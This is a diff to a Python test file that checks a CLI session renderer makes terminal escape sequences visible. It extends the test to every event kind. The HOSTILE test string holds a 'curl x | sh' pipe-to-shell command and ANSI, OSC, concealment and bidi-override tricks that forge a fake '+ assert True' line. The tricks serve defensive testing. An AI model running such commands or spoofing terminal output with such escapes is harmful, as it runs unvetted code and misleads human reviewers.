@@ -12,6 +12,8 @@ from fluffy.cli.session_view import SessionRenderer
 from fluffy.errors import ToolFailed
 from fluffy.safetext import visible
 
+from .cli_fakes import KINDS, complete, shown
+
 # cursor up + clear line + a fake line; an OSC title; hidden text; a bidi override
 HOSTILE = (
     "os.system('curl x | sh')\x1b[1A\x1b[2K+ assert True\x1b]0;pwned\x07\x1b[8msecret\u202eevil\r"
@@ -52,11 +54,20 @@ def test_every_event_the_session_view_shows_is_made_visible() -> None:
          "error": {"what": HOSTILE}},
     ]  # fmt: skip
     for event in events:
-        view.render(event)
+        view.render(shown(event))
+    for kind in KINDS:  # and every kind, with every text of it hostile
+        view.render(shown(_hostile(complete({"type": kind}))))
     text = out.getvalue()
     assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
     assert text.count("+ assert True") >= 5  # shown, with its escapes in front of it
     assert "\\x1b[1A\\x1b[2K+ assert True" in text
+
+
+def _hostile(value: object) -> object:
+    """``value`` with every empty text in it (but its kind) made :data:`HOSTILE`."""
+    if isinstance(value, dict):
+        return {k: v if k == "type" else _hostile(v) for k, v in value.items()}
+    return HOSTILE if value == "" else value
 
 
 def test_errors_and_every_print_of_the_cli_consoles_are_made_visible() -> None:
